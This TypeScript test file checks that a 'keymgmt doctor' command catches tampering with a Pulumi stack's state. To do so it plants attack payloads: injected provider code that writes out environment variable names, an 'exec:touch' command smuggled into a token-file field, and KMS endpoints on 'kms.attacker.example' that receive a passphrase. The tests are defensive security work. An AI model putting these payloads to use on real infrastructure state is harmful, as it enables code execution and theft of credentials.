/** Who can write the state's bucket, and nothing else. The engine is the real one. */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { LocalKms } from "../../../local-kms/src/index";
import { keyCheckValue } from "../../../provider/keys/keyCheckValue";
import { versionJwk } from "../../../provider/keys/keyring";
import { AES_256 } from "../../../provider/keys/keyTypes";
import { built } from "../../built";
import { exportOf, fileOf, keymgmt, shown } from "../../cli/support";
import { openProject, type Project } from "../../e2e/support";
import { loopback } from "../../provider/kms/loopback";
import { temporaryFolder } from "../../temporaryFolders";
import { startLocalKms } from "../../world/localKms";
import { localKms, Program } from "../../world/program";

interface Resource {
  urn: string;
  type: string;
  id?: string;
  inputs?: Record<string, unknown>;
  outputs: Record<string, unknown>;
}

describe("who can write the state", function () {
  this.timeout(300_000);
  let local: LocalKms;
  let project: Project;
  let honest: string;

  before(async () => {
    local = await startLocalKms();
    const program = `const { ManagedKey } = require("pulumi-keymgmt"); new ManagedKey("orders", {});`;
    project = await openProject({ program });
    await project.up();
    honest = await readFile(bucket(), "utf8");
  });
  after(async () => {
    await project?.close();
    await local?.close();
  });

  const bucket = () => join(project.folder.state, ".pulumi", "stacks", "e2e", "dev.json");
  const loot = (name: string) => join(project.folder.root, name);
  /** Code that shows that it ran in the runner, and then works as this package's. */
  const evil = (name: string) =>
    `require("fs").writeFileSync(${JSON.stringify(loot(name))}, Object.keys(process.env).join()); ` +
    'exports.handler = () => require("pulumi-keymgmt/dynamic").ManagedKey;';

  async function write(change: (resources: Resource[]) => Resource[]): Promise<void> {
    const state = JSON.parse(honest);
    const { latest } = state.checkpoint;
    latest.resources = change(latest.resources);
    await writeFile(bucket(), JSON.stringify(state));
  }

  /** As examples/ci runs an update: `keymgmt doctor` comes first. */
  async function updated(): Promise<{ doctor: string; isUpdated: boolean }> {
    const args = ["doctor", "--stack", "dev", "--region", "us-west-1", "--endpoint", local.url];
    const credentials = {
      AWS_ACCESS_KEY_ID: "111122223333",
      AWS_SECRET_ACCESS_KEY: "secret",
      PULUMI_CONFIG_PASSPHRASE: "not the stack's",
    };
    const ran = await project.run(
      process.execPath,
      ["--no-warnings", built("cli/main.js"), ...args],
      credentials,
    );
    if (ran.exitCode === 0) await project.pulumi(["up", "--yes", "--skip-preview", "--refresh"]);
    return { doctor: ran.stdout.replaceAll(/\s+/g, " "), isUpdated: ran.exitCode === 0 };
  }

  it("is all that is kept away: what an update wrote is updated", async () => {
    for (const _ of ["after an update", "after a refresh"]) assert.ok((await updated()).isUpdated);
  });

  const attacks: [title: string, name: string, change: (resources: Resource[]) => Resource[]][] = [
    [
      "gets no code run by the text of a key's `__provider`",
      "key",
      (resources) =>
        resources.map((one) =>
          one.type.endsWith(":ManagedKey")
            ? { ...one, outputs: { ...one.outputs, __provider: evil("key") } }
            : one,
        ),
    ],
    [
      "gets no code run by a resource of somebody else's type, which the update deletes",
      "bucket",
      (resources) => {
        const key = resources.find(({ type }) => type.endsWith(":ManagedKey"))!;
        const urn = "urn:pulumi:dev::e2e::aws:s3/bucket:Bucket::logs";
        const outputs = { __provider: evil("bucket"), deletionAllowed: true };
        return [
          ...resources,
          { ...key, urn, type: "aws:s3/bucket:Bucket", inputs: outputs, outputs, protect: false },
        ] as Resource[];
      },
    ],
  ];
  for (const [title, name, change] of attacks)
    it(title, async () => {
      await write(change);
      const { doctor, isUpdated } = await updated();
      assert.equal(existsSync(loot(name)), false, "the code ran");
      assert.equal(isUpdated, false);
      assert.match(
        doctor,
        /! urn:pulumi:dev::e2e::\S+: (Expected|The engine runs) the text of its `__provider`/,
      );
      // What it is held from: without `keymgmt doctor` the engine runs it.
      await project.pulumi(["up", "--yes", "--skip-preview", "--refresh"]).catch(() => {});
      assert.ok(existsSync(loot(name)), "the engine runs it");
    });

  /** Of theirs: version 1 has KMS keys already, and is not imported again; version 2 comes behind the alias. */
  const theirs = () => {
    const versions = [randomBytes(32), randomBytes(32)];
    const keys = versions.map((material, index) => versionJwk(AES_256, index + 1, material, new Date()));
    return { id: `orders-${keyCheckValue(versions[0]!)}`, keyring: JSON.stringify({ keys }), versions };
  };
  for (const [form, marked] of [
    ["in the clear", (text: string) => text],
    ["as a secret that is still to be encrypted", shown],
  ] as const)
    it(`puts in no material of theirs by a keyring ${form}`, async () => {
      const { id, keyring, versions } = theirs();
      await write((resources) =>
        resources.map((one) =>
          one.type.endsWith(":ManagedKey")
            ? {
                ...one,
                id,
                inputs: { ...one.inputs, keyVersion: 2 },
                outputs: { ...one.outputs, keyVersion: 2, latestVersion: 2, keyring: marked(keyring) },
              }
            : one,
        ),
      );
      const { doctor, isUpdated } = await updated();
      assert.equal(isUpdated, false);
      assert.match(doctor, /! urn:\S+::orders: Expected its keyring to be encrypted/);
      // What it is held from.
      await project.pulumi(["up", "--yes", "--skip-preview", "--refresh"]);
      const { json } = await project.stackExport({ showSecrets: true });
      assert.ok(JSON.stringify(json).includes(versions[1]!.toString("base64url")), "the key has theirs");
    });
});

/** What is sent in a refresh, to where the state alone says; the host is a loopback one, in the place of theirs. */
describe("who can write the state, and has a host", function () {
  this.timeout(60_000);

  it("has no command run for a token, which doctor finds in the inputs and outputs", async () => {
    const local = await localKms();
    const folder = await temporaryFolder();
    try {
      const program = new Program(local);
      await program.up();
      const state = program.states.get("distribution")!;
      const { credentials: _, ...kms } = state.outputs.kms as Record<string, unknown>;
      const webIdentity = {
        roleArn: "arn:aws:iam::111122223333:role/any",
        tokenFile: `exec:touch ${join(folder, "ran")}`,
      };
      state.outputs = { ...state.outputs, kms: { ...kms, webIdentity } };
      const args = ["doctor", "--offline", "--state", "-"];
      const { code, stdout } = await keymgmt(args, { input: exportOf(program) });
      assert.equal(code, 3);
      const said = stdout.replaceAll(/\s+/g, " ");
      const [, name] =
        /::distribution: The engine runs the command that `webIdentity\.tokenFile` names\. .* --allow-dynamic (webIdentity@\w{64})/.exec(
          said,
        ) ?? [];
      const allowed = await keymgmt([...args, "--allow-dynamic", name!], { input: exportOf(program) });
      assert.equal(allowed.code, 0, "one that somebody has read");
      await program.refreshAll().catch(() => {});
      assert.ok(existsSync(join(folder, "ran")), "what it is held from");
    } finally {
      await local.close();
    }
  });

  it("is sent no file and no job token of the runner by an endpoint and a token file", async () => {
    const local = await localKms();
    const host = await loopback(() => ({ status: 400, body: { __type: "ValidationException" } }));
    const token = await fileOf("PULUMI_CONFIG_PASSPHRASE=the-passphrase");
    try {
      const program = new Program(local);
      await program.up();
      const roleArn = "arn:aws:iam::111122223333:role/any";
      const webIdentity = { roleArn, tokenFile: token };
      const state = program.states.get("distribution")!;
      const { credentials: _, ...kms } = state.outputs.kms as Record<string, unknown>;
      const written = (endpoint: unknown) => {
        state.outputs = { ...state.outputs, kms: { ...kms, webIdentity, endpoint } };
      };
      for (const url of [
        "https://kms.attacker.example",
        "https://kms.{region}.amazonaws.com.attacker.example",
        "http://kms.us-west-1.amazonaws.com",
      ]) {
        const args = ["doctor", "--offline", "--state", "-"];
        for (const endpoint of [
          url,
          { "us-west-1": url },
          { "us-east-1": "https://kms.us-east-1.api.aws", "us-west-1": url },
        ]) {
          written(endpoint);
          const { code, stdout } = await keymgmt(args, { input: exportOf(program) });
          assert.equal(code, 3, url);
          assert.ok(stdout.replaceAll(/\s+/g, " ").includes(`The state says that calls go to "${url}"`));
          const allowed = await keymgmt([...args, "--allow-endpoint", url], { input: exportOf(program) });
          assert.equal(allowed.code, 0, "the program's own");
        }
      }
      const key = program.states.get("key")!;
      const { outputs } = key;
      const theirs = "https://kms.attacker.example";
      key.outputs = { ...outputs, keystore: `awskms://alias/root?region=us-east-1&endpoint=${theirs}` };
      written("https://kms.us-west-1.amazonaws.com");
      const args = ["doctor", "--offline", "--state", "-"];
      const { stdout } = await keymgmt(args, { input: exportOf(program) });
      assert.match(stdout.replaceAll(/\s+/g, " "), /::key: The state says that calls go to "https:/);
      key.outputs = outputs;
      written(host.url);
      await program.refreshAll().catch(() => {});
      assert.ok(JSON.stringify(host.seen).includes("the-passphrase"), "what it is held from");
    } finally {
      await host.close();
      await local.close();
    }
  });
});
